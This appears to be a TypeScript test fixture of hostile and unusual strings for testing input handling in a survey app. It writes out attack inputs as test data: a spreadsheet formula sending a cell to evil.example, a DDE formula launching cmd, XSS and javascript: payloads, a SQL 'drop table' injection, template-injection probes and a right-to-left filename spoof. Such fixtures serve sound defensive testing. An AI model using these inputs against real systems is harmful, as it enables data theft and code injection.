// Texts that have broken programs, one or more of each class; and all of a list of them, where ISB_REAL_DATA names a folder that has it.
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

const file = process.env['ISB_REAL_DATA'] && join(process.env['ISB_REAL_DATA'], 'hostile/blns.json')

/** What a text of one line may hold, by its class. */
export const naughty: Readonly<Record<string, string>> = {
  'right to left': 'שלום abc \u200Fمرحبا\u200E 123',
  'joined without width': 'می\u200Cخواهم ক\u200Dষ',
  'a formula': '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  'another formula': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a plus': '+86 138 0000 0000',
  'a minus': '-2+3',
  'a script': '<script>window.hacked = 1</script><img src=x onerror="window.hacked=1"><svg/onload=window.hacked=1>',
  'addresses of scripts': '[a](javascript:window.hacked=1) [b](data:text/html,<script>1</script>) ![c](https://evil.example/x.png)',
  'end of a tag': '"\'></td></table></script><!-- ]]> &lt;b&gt; &amp;',
  emoji: '👨‍👩‍👧‍👦 🏳️‍🌈 👩🏽‍🏫 🇨🇳 𠮷',
  'many marks': `Z${'\u0300\u0301\u0323\u0360\u035C'.repeat(12)}algo ก็็็็็็็็`,
  placeholders: '{student} {survey} {name} {0} ${7*7} {{7*7}} %s %n {n, plural, one {#}}',
  'a statement': `'; drop table survey; --`,
  separators: `a,b;c "d" | 'e' \\ \\n \\u0000 %00`,
  'other spaces': 'a\u00A0b\u3000c\u2003d',
  'very long': '长'.repeat(120) + 'x'.repeat(260),
}
/** Characters that nobody sees: no text may have them. */
const unseen = /\u034F|[\p{Cc}\u00AD\u115F\u1160\u180E\u200B\u2028-\u202E\u2060-\u206F\u2800\u3164\uFEFF\uFFA0\u{E0000}-\u{E007F}]/u
/** The strings of the list that may be kept, no longer than this. */
export const listed = (longest: number): string[] =>
  file && existsSync(file)
    ? (JSON.parse(readFileSync(file, 'utf8')) as string[]).filter(
        (text) => text.trim() !== '' && text.length <= longest && !unseen.test(text),
      )
    : []
/** What is never kept, for PostgreSQL has no such text, or whoever reads it would see something else than is there. */
export const unkept = {
  NUL: 'a\0b',
  'half of a character': 'a\uD83Db',
  'a turn of direction': '\u202Egpj.exe\u202C',
  'an isolated direction': 'a\u2066b\u2069',
  'nothing wide': 'a\u200Bb\u2060c',
  'a mark of byte order': 'a\uFEFFb',
  'an escape': '\u001B[2Ja',
} as const
